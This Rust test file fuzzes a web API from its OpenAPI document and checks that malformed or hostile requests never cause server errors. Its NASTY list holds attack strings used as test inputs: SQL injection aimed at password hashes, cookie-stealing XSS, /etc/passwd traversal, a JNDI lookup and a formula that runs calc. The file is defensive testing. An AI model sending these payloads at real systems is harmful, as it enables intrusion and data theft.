//! Requests generated from the OpenAPI document: for every operation it describes, bodies
//! and parameters shaped by its schemas, then bent (wrong types, injection and traversal
//! strings, huge and odd values, invalid UTF-8), more than 5,000 in all. None may get a 5xx,
//! and every refusal under `/api` carries the JSON error shape.

use crate::fixture::leak_case;
use crate::harness::{Harness, on_postgres, on_sqlite};
use axum::http::Method;
use serde_json::{Map, Value, json};
use std::collections::BTreeMap;

/// Requests per operation: 37 operations make more than 5,000.
const PER_OPERATION: usize = 140;

/// A small deterministic generator, so that a failure can be replayed.
struct Dice(u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n.max(1) as u64) as usize
    }
    fn chance(&mut self, percent: u64) -> bool {
        self.next() % 100 < percent
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

/// Strings an attacker would try in any text field or path segment.
const NASTY: &[&str] = &[
    "' OR '1'='1' --",
    "1; DROP TABLE cases; --",
    "\") UNION SELECT password_hash FROM users --",
    "<script>alert(document.cookie)</script>",
    "\"><img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "../../../../etc/passwd",
    "..%2F..%2F..%2Fetc%2Fpasswd",
    "%00",
    "\u{0000}",
    "\u{202e}gnp.exe",
    "😀😀😀",
    "𠀀𠀁𠀂",
    "{{7*7}}",
    "${jndi:ldap://x/a}",
    "=cmd|' /C calc'!A0",
    "  ",
    "",
    "370811002001",
    "370811",
    "00000000-0000-0000-0000-000000000000",
    "-1",
    "99999999999999999999999",
    "NaN",
    "true",
];

fn resolve<'a>(doc: &'a Value, schema: &'a Value) -> &'a Value {
    match schema["$ref"].as_str() {
        Some(reference) => {
            let name = reference.rsplit('/').next().unwrap_or_default();
            &doc["components"]["schemas"][name]
        }
        None => schema,
    }
}

/// A value shaped by `schema` most of the time, something else now and then.
fn value(doc: &Value, schema: &Value, dice: &mut Dice, depth: u32) -> Value {
    let schema = resolve(doc, schema);
    if dice.chance(12) || depth > 6 {
        return odd(dice);
    }
    if let Some(options) = schema["enum"].as_array()
        && !options.is_empty()
    {
        return dice.pick(options).clone();
    }
    for key in ["oneOf", "anyOf", "allOf"] {
        if let Some(options) = schema[key].as_array()
            && !options.is_empty()
        {
            return value(doc, dice.pick(options), dice, depth + 1);
        }
    }
    match schema["type"].as_str() {
        Some("object") => {
            let mut object = Map::new();
            if let Some(properties) = schema["properties"].as_object() {
                for (name, property) in properties {
                    if dice.chance(85) {
                        object.insert(name.clone(), value(doc, property, dice, depth + 1));
                    }
                }
            }
            if dice.chance(5) {
                object.insert("unexpected".into(), odd(dice));
            }
            Value::Object(object)
        }
        Some("array") => {
            let items = &schema["items"];
            let n = dice.below(4);
            Value::Array((0..n).map(|_| value(doc, items, dice, depth + 1)).collect())
        }
        Some("integer") => json!(*dice.pick(&[0i64, 1, 2, 7, 100, -1, 3000, i64::MAX, i64::MIN])),
        Some("number") => json!(*dice.pick(&[0.0, 1.5, -3.25, 1e300, 116.58, 35.39])),
        Some("boolean") => json!(dice.chance(50)),
        _ => text(dice),
    }
}

fn text(dice: &mut Dice) -> Value {
    match dice.below(5) {
        0 => json!("邻里纠纷，需调解".repeat(1 + dice.below(3))),
        1 => json!("x".repeat(dice.below(20_000))),
        _ => json!(*dice.pick(NASTY)),
    }
}

fn odd(dice: &mut Dice) -> Value {
    match dice.below(8) {
        0 => Value::Null,
        1 => json!(dice.chance(50)),
        2 => json!(-1e308),
        3 => json!([[[[[[[[[[[[[[[[[[[["deep"]]]]]]]]]]]]]]]]]]]]),
        4 => json!({ "$gt": "" }),
        5 => json!(i64::MIN),
        _ => text(dice),
    }
}

/// A path segment for a parameter: a real one when there is one, else something odd.
fn segment(name: &str, real: &BTreeMap<&str, String>, dice: &mut Dice) -> String {
    if dice.chance(50)
        && let Some(value) = real.get(name)
    {
        return value.clone();
    }
    let raw = match dice.below(3) {
        0 => (*dice.pick(NASTY)).to_owned(),
        1 => "a".repeat(dice.below(3000)),
        _ => format!("{}", dice.next()),
    };
    percent_encode(&raw)
}

fn percent_encode(raw: &str) -> String {
    raw.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

async fn requests_generated_from_the_openapi_document_never_get_a_5xx(h: Harness) {
    let doc = hezhi_web::openapi_document();
    let case = h.report(&h.fx.dispatcher, &leak_case()).await;
    let real: BTreeMap<&str, String> = [
        ("id", case.id.to_string()),
        ("code", "370811002001".to_owned()),
        ("command", "accept".to_owned()),
        ("kind", "ledger".to_owned()),
        (
            "assignment",
            "00000000-0000-0000-0000-000000000000".to_owned(),
        ),
    ]
    .into_iter()
    .collect();
    let callers = [
        Some(&h.fx.dispatcher),
        Some(&h.fx.admin),
        Some(&h.fx.resident),
        Some(&h.fx.grid_worker),
        None,
    ];
    // HEZHI_FUZZ_SEED replays or varies a run; the default is fixed.
    let seed = std::env::var("HEZHI_FUZZ_SEED")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(0x9E37_79B9_7F4A_7C15_u64)
        | 1;
    let mut dice = Dice(seed);
    let mut statuses: BTreeMap<u16, u64> = BTreeMap::new();
    let mut sent = 0usize;
    let paths = doc["paths"].as_object().expect("paths");
    for (path, operations) in paths {
        for (method, operation) in operations.as_object().expect("operations") {
            let Ok(method) = method.to_uppercase().parse::<Method>() else {
                continue;
            };
            if !matches!(
                method,
                Method::GET | Method::POST | Method::PUT | Method::DELETE | Method::PATCH
            ) {
                continue;
            }
            for _ in 0..PER_OPERATION {
                // The path, its parameters filled in.
                let mut uri = String::from("/api/v1");
                for part in path.split('/').filter(|p| !p.is_empty()) {
                    uri.push('/');
                    match part.strip_prefix('{').and_then(|p| p.strip_suffix('}')) {
                        Some(name) => uri.push_str(&segment(name, &real, &mut dice)),
                        None => uri.push_str(part),
                    }
                }
                // Query parameters, some of them, some odd.
                let mut query = Vec::new();
                for parameter in operation["parameters"].as_array().into_iter().flatten() {
                    if parameter["in"] == "query" && dice.chance(60) {
                        let name = parameter["name"].as_str().unwrap_or_default();
                        let value = match value(&doc, &parameter["schema"], &mut dice, 0) {
                            Value::String(s) => s,
                            other => other.to_string(),
                        };
                        query.push(format!("{name}={}", percent_encode(&value)));
                    }
                }
                if !query.is_empty() {
                    uri.push('?');
                    uri.push_str(&query.join("&"));
                }
                let mut call = match method {
                    Method::GET => h.get(uri.clone()),
                    Method::DELETE => h.delete(uri.clone()),
                    _ => h.post(uri.clone()).method(method.clone()),
                };
                if let Some(who) = dice.pick(&callers) {
                    call = call.by(who);
                }
                if dice.chance(30) {
                    call = call.if_match(dice.below(5) as u32);
                }
                if dice.chance(20) {
                    call = call.idempotency_key(&format!("fuzz-{}", dice.next()));
                }
                let schema = &operation["requestBody"]["content"]["application/json"]["schema"];
                if !schema.is_null() || method != Method::GET {
                    call = match dice.below(10) {
                        // Invalid UTF-8, or bytes that are not JSON at all.
                        0 => call.raw(
                            Some("application/json"),
                            vec![0xff, 0xfe, b'{', 0xc3, 0x28, b'}'],
                        ),
                        1 => call.raw(Some("text/plain"), "not json"),
                        _ => call.json(&value(&doc, schema, &mut dice, 0)),
                    };
                }
                let reply = call.send().await;
                sent += 1;
                *statuses.entry(reply.status.as_u16()).or_default() += 1;
                assert!(
                    reply.status.as_u16() < 500,
                    "{method} {uri}: {} {}",
                    reply.status,
                    reply.text()
                );
                if reply.status.is_client_error() {
                    assert!(
                        !reply.code().is_empty(),
                        "{method} {uri}: {} without the error shape: {}",
                        reply.status,
                        reply.text()
                    );
                }
            }
        }
    }
    eprintln!("seed {seed}: {sent} generated requests, by status: {statuses:?}");
    assert!(sent >= 5_000, "{sent} requests");
    // Some got through, so the generator reached the handlers, not only the gates.
    assert!(statuses.keys().any(|s| *s < 300), "{statuses:?}");
    let reply = h.get("/healthz").send().await;
    assert_eq!(reply.status.as_u16(), 200);
}

#[tokio::test]
async fn requests_generated_from_the_openapi_document_never_get_a_5xx_on_sqlite() {
    on_sqlite(requests_generated_from_the_openapi_document_never_get_a_5xx).await;
}

#[tokio::test]
async fn requests_generated_from_the_openapi_document_never_get_a_5xx_on_postgres() {
    on_postgres(requests_generated_from_the_openapi_document_never_get_a_5xx).await;
}

/// Found by the generator: PostgreSQL refuses a NUL in text, so a sign-in with one in the
/// name was a 500 there. Such names are refused like any unknown one, on both engines.
async fn a_name_with_control_characters_is_an_unknown_name(h: Harness) {
    for name in ["\u{0}", "dispatcher\u{0}", "a\u{7}b", &"名".repeat(200)] {
        let reply = h
            .post("/api/v1/session")
            .json(&json!({ "name": name, "password": "whatever password" }))
            .send()
            .await;
        assert_eq!(reply.status.as_u16(), 401, "{name:?}: {}", reply.text());
        assert_eq!(reply.code(), "invalid_credentials");
    }
}

#[tokio::test]
async fn a_name_with_control_characters_is_an_unknown_name_on_sqlite() {
    on_sqlite(a_name_with_control_characters_is_an_unknown_name).await;
}

#[tokio::test]
async fn a_name_with_control_characters_is_an_unknown_name_on_postgres() {
    on_postgres(a_name_with_control_characters_is_an_unknown_name).await;
}
